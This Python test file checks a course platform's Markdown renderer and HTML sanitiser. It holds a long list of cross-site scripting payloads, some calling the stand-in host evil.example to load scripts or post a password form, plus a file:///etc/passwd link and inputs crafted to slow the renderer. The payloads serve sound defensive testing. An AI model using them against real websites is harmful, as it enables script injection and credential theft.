"""What Markdown becomes on a page, and that nothing hostile gets through."""

import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.markdown import find_headings, parse_markdown, render_inline, render_markdown, sanitise_html
from courses.markdown.allowed import TAGS
from courses.markdown.callouts import CALLOUTS
from courses.markdown.rendering import MAX_CHARACTERS

LUMI = Path(__file__).parents[3] / "shared" / "data" / "lumi-aif-onboarding" / "content"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='x' onload='alert(1)' style='background:url(javascript:alert(1))'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="data:image/png;base64,AAAA&quot; onerror=alert(1)">',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<img src="https://tracker.example/pixel.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="d\nata:text/html,x">x</a>',
    '<a href="blob:https://e.org/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https:accounts/logout">x</a><img src="https:a.png">',
    "[x](https:/accounts/logout)",
    '<a href="https://e.org" onclick="alert(1)" target="_blank" ping="https://e.org">x</a>',
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\tjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://tracker.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    '![" onerror="alert(1)](x)',
    '[x](https://e.org "\\" onmouseover=\\"alert(1)")',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>@import 'https://evil.example';</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<b hx-get='/accounts/logout/' hx-trigger='load' data-hx-get='/'>x</b>",
    "<div class='modal show' id='main'>x</div>",
    "<a name='forms' id='body'>x</a>",
    "<span class='katex' onclick='alert(1)'>$\\href{javascript:alert(1)}{x}$</span>",
    "$</span><script>alert(1)</script>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\n</code><img src=x onerror=alert(1)>\n```",
    "`<script>alert(1)</script>`",
    "> [!note] <img src=x onerror=alert(1)>\n> <script>alert(1)</script>",
    '> [!"><script>] x\n> y',
    "# <img src=x onerror=alert(1)>\n",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<table background='javascript:alert(1)'><tr><td background=x>x</td></tr></table>",
    "<x onclick=alert(1)>x</x>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='//evil.example'>x</a> <a href='/\\evil.example'>x</a> <a href='\\\\evil.example'>x</a>",
]

ATTRIBUTES = {
    *("alt", "aria-label", "class", "colspan", "datetime", "dir", "height", "href", "id", "lang", "loading"),
    *("rel", "role", "rowspan", "scope", "src", "start", "tabindex", "title", "width"),
}


class _Page(HTMLParser):
    """Reads what was rendered as a browser would, and refuses whatever could act."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            if name in ("href", "src"):
                # Browsers take tabs and line ends out of an address, and control characters off its ends.
                address = re.sub(r"[\t\r\n]", "", value or "").strip("".join(map(chr, range(33)))).lower()
                scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
                assert not re.match(r"[\\/]{2}", address), value
                assert scheme is None or re.match(
                    r"https?://|mailto:|data:image/(png|jpeg|gif|webp);base64,", address
                ), value
                assert tag == "img" or not address.startswith("data:"), value
                assert tag != "img" or not address.startswith("http"), value
            if name == "id":
                assert (value or "").startswith("text-"), value

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def look_at(page: str) -> None:
    """Fail when anything in a piece of a page could act."""
    reader = _Page(convert_charrefs=False)
    reader.feed(page)
    reader.close()


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_gets_through(source: str) -> None:
    look_at(render_markdown(source))
    look_at(render_markdown("- a\n\n  " + source.replace("\n", "\n  ")))
    look_at(render_inline(source))
    look_at(sanitise_html(source))


@pytest.mark.parametrize("source", [source for source in HOSTILE if "tracker" not in source])
def test_the_text_of_an_author_is_sanitised_too(source: str) -> None:
    look_at(render_markdown(source, trusted=True))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["<", ">", '"', "'", "a", "`", "```\n", "\n", "$", "[", "](", ")", "img ", "onload=", "src="]
        )
        | st.sampled_from(
            ["javascript:", "\x00", "&#", "<!--", "-->", "> [!note]", "|-|", "<svg>", "\ud800", "script"]
        ),
        max_size=40,
    ).map("".join)
)
def test_no_mixture_gets_through(source: str) -> None:
    look_at(render_markdown(source))
    look_at(sanitise_html(source))
    look_at(render_inline(source))


def test_text_has_ids_and_headings_below_the_page_title() -> None:
    source = "## Tekoäly ja data\n\n## Tekoäly ja data\n\n# A `b`\n\n###### Deep\n"
    assert render_markdown(source, trusted=True) == (
        '<h2 id="text-tekoäly-ja-data">Tekoäly ja data</h2>\n'
        '<h2 id="text-tekoäly-ja-data-2">Tekoäly ja data</h2>\n'
        '<h2 id="text-a-b">A <code>b</code></h2>\n'
        '<h6 id="text-deep">Deep</h6>\n'
    )
    assert re.findall("<(h[1-6])", render_markdown(source)) == ["h3", "h3", "h2", "h6"]


def test_the_anchors_found_are_those_rendered() -> None:
    source = "## Data\n\n## Data-2\n\n## Data\n\n## !!\n\n[to](#data)"
    anchors = [heading.anchor for heading in find_headings(parse_markdown(source))]
    assert anchors == ["data", "data-2", "data-3", "section"]
    page = render_markdown(source, trusted=True, id_prefix="q1-")
    assert re.findall('id="([^"]+)"', page) == [f"q1-{anchor}" for anchor in anchors]
    assert 'href="#q1-data"' in page


def test_callouts_have_a_kind_and_a_title() -> None:
    assert render_markdown("> [!warning] Use `rm` **with care**\n> No undo.\n>\n> - None\n") == (
        '<div class="callout callout-warning" role="note">\n'
        '<p class="callout-title">Use <code>rm</code> <strong>with care</strong></p>\n'
        "<p>No undo.</p>\n<ul>\n<li>None</li>\n</ul>\n</div>\n"
    )
    assert '<p class="callout-title">Tip</p>' in render_markdown("> [!TIP]\n> A")
    assert "callout-note" in render_markdown("> [!whatever]\n> A")
    assert "blockquote" in render_markdown("> A\n> [!tip]\n")
    assert render_markdown("> [!note]\n> > [!tip]\n> > A\n\n> B").count("</blockquote>") == 1


def test_every_callout_has_its_class() -> None:
    for name in CALLOUTS:
        assert f'class="callout callout-{name}"' in render_markdown(f"> [!{name}]\n> A")


def test_a_command_is_shown_letter_by_letter() -> None:
    page = render_markdown("> [!command]\n> ssh -i <key> <you>@example.org # *now*\n")
    assert "<code>ssh -i &lt;key&gt; &lt;you&gt;@example.org # *now*\n</code>" in page


def test_code_is_coloured_by_classes() -> None:
    page = render_markdown('```python title="a"\nimport os  # <b>\n```\n')
    assert page.startswith(
        '<div class="codehilite"><pre tabindex="0"><code class="language-python"><span class="kn">'
    )
    assert '<span class="c1"># &lt;b&gt;</span>' in page
    assert "style=" not in page
    assert render_markdown("```nonsense\na<b\n```") == (
        '<div class="codehilite"><pre tabindex="0"><code>a&lt;b\n</code></pre></div>\n'
    )
    assert "codehilite" in render_markdown("    indented")


def test_maths_stays_text_for_the_browser() -> None:
    assert render_markdown("$a<b$ and $$c_1$$") == (
        '<p><span class="math inline">a&lt;b</span> and <span class="math display">c_1</span></p>\n'
    )
    assert render_markdown("$$\na \\\\ b*c*d\n$$") == '<div class="math display">a \\\\ b*c*d</div>\n'


def test_money_is_no_maths() -> None:
    assert "math" not in render_markdown("It costs $5 or $6, or 7 $ and 8 $, in $HOME or \\$a\\$.")


def test_a_table_scrolls_and_can_be_reached() -> None:
    page = render_markdown("| a | b |\n|--:|:-:|\n| 1 | 2 |\n")
    assert '<div class="table-scroll" tabindex="0" role="group" aria-label="Table"><table>' in page
    assert '<td class="text-end">1</td>' in page
    assert '<th class="text-center">b</th>' in page


def test_footnotes_lead_there_and_back() -> None:
    page = render_markdown("A[^n] and again[^n].\n\n[^n]: Note.\n")
    ids = set(re.findall('id="([^"]+)"', page))
    assert set(re.findall('href="#([^"]+)"', page)) == ids == {"text-fn1", "text-fnref1", "text-fnref1:1"}
    assert 'aria-label="Back to the text"' in page


def test_links_say_nothing_about_where_they_come_from() -> None:
    page = render_markdown('[a](https://e.org) <a href="https://e.org">b</a> <https://e.org>')
    assert page.count('rel="noopener noreferrer"') == 3


def test_relative_addresses_are_resolved_for_authors_and_dropped_for_others() -> None:
    source = "[a](20-b.md#c) ![d](images/e.png) [f](gone.md) [g](//h.example)"
    assert 'href="20-b.md#c"' in render_markdown(source, trusted=True)
    assert "href" not in render_markdown(source)
    assert "src" not in render_markdown(source)
    addresses = {"20-b.md#c": "../b/#c", "images/e.png": "../files/e.png"}
    page = render_markdown(source, trusted=True, resolve=addresses.get)
    assert 'href="../b/#text-c"' in page
    assert 'src="../files/e.png"' in page
    assert page.count("href") == 1


def test_pictures_may_be_within_the_text() -> None:
    for source in (
        f"![a](data:image/png;base64,{PIXEL})",
        f'<img src="data:image/png;base64,{PIXEL}" alt="a">',
    ):
        assert f'src="data:image/png;base64,{PIXEL}"' in render_markdown(source)
    assert "src" not in sanitise_html(f'<img src="data:image/gif;base64,{PIXEL}">')


def test_a_quiz_block_is_not_shown_with_its_answers() -> None:
    assert render_markdown("Before\n\n```quiz\nQ: A\n- [x] secret\n```\n") == "<p>Before</p>\n"


def test_one_line_has_no_paragraph() -> None:
    assert render_inline("`a` **b** $c$ [d](https://e.org)") == (
        '<code>a</code> <strong>b</strong> <span class="math inline">c</span> '
        '<a href="https://e.org" rel="noopener noreferrer">d</a>'
    )


def test_titles_of_callouts_speak_the_language_of_the_text() -> None:
    assert render_markdown("> [!note]\n> A", language="en").count("Note") == 1


def test_a_dataframe_is_shown_as_a_table() -> None:
    page = sanitise_html(
        '<div><style scoped>.dataframe {color: red}</style><table border="1" class="dataframe x">'
        '<thead><tr style="text-align: right;"><th></th><th class="text-end" colspan="2">a</th></tr></thead>'
        "<tbody><tr><th>0</th><td>&lt;b&gt;</td></tr></tbody></table><p>1 rows × 1 columns</p></div>"
    )
    assert page == (
        '<div><table class="dataframe">'
        '<thead><tr><th></th><th class="text-end" colspan="2">a</th></tr></thead>'
        "<tbody><tr><th>0</th><td>&lt;b&gt;</td></tr></tbody></table><p>1 rows × 1 columns</p></div>"
    )


def test_an_output_takes_no_place_in_the_page() -> None:
    page = sanitise_html('<h2 id="main" class="callout" tabindex="0">a</h2><a href="/accounts/logout/">b</a>')
    assert page == '<h2>a</h2><a rel="noopener noreferrer">b</a>'


SLOW = {
    "brackets": "[" * 120_000,
    "pictures": "![" * 60_000,
    "nested pictures": "![a" * 20_000 + "](x)" * 15_000,
    "links": "[a](" * 30_000,
    "stars": "**a*b" * 25_000,
    "quotations": ">" * 120_000,
    "lists": "- " * 60_000,
    "indented lists": "".join(" " * depth + "* a\n" for depth in range(480)),
    "maths that never ends": "$$ a\n\n" * 20_000,
    "tables": "|a|b|\n|-|-|\n" + "|\n" * 60_000,
    "wide tables": "|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + "|\n" * 60_000,
    "headings": "# a\n" * 30_000,
    "open divs": "<div>" * 24_000,
    "open formatting": "".join(f"<b a{number}>" for number in range(1_000)) + "\n\np" * 40_000,
    "attributes": "<a " + " ".join(f"a{number}" for number in range(18_000)) + ">",
    "strings in code": "```python\n" + "'''a" * 12_000 + "\n```",
    "much code": "```python\nx=1\n```\n" * 7_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_a_text_made_to_be_slow_takes_a_bounded_time(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("courses.markdown.rendering.SECONDS", 0.1)
    began = time.thread_time()
    render_markdown(SLOW[name])
    assert time.thread_time() - began < 3


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 400_000,
        "<ul>" * 60_000,
        "".join(f"<b a={number}>" for number in range(2_000)) + "<p>" * 60_000,
        "<a " + "/".join(f"a{number}" for number in range(200_000)) + ">x",
        "<table><tr><td>" * 17_000,
        "x" * 10_000_000,
    ],
)
def test_an_output_made_to_be_slow_takes_a_bounded_time(source: str) -> None:
    began = time.thread_time()
    sanitise_html(source)
    assert time.thread_time() - began < 3


def test_a_text_too_long_is_shown_as_text() -> None:
    page = render_markdown("<b>" * MAX_CHARACTERS)
    assert page.startswith('<pre class="plain" tabindex="0">&lt;b&gt;')
    assert page.count("&lt;b&gt;") <= MAX_CHARACTERS


def test_a_large_table_of_a_notebook_is_still_a_table() -> None:
    rows = "".join(f"<tr><th>{row}</th>" + "<td>0.123456</td>" * 20 + "</tr>" for row in range(400))
    assert sanitise_html(f"<table>{rows}</table>").count("<td>") == 8_000


@pytest.mark.skipif(not LUMI.is_dir(), reason="the LUMI AI Factory's course is not beside this project")
def test_the_chapters_of_the_lumi_course_are_rendered() -> None:
    for path in sorted(LUMI.glob("*.md")):
        source = path.read_text()
        page = render_markdown(source, trusted=True)
        assert not page.startswith('<pre class="plain"'), path.name
        assert page.count('class="callout-title"') == len(re.findall(r"^\s*> \[!", source, re.MULTILINE)), (
            path.name
        )
        assert "[!" not in re.sub(r"<code.*?</code>", "", page, flags=re.DOTALL), path.name
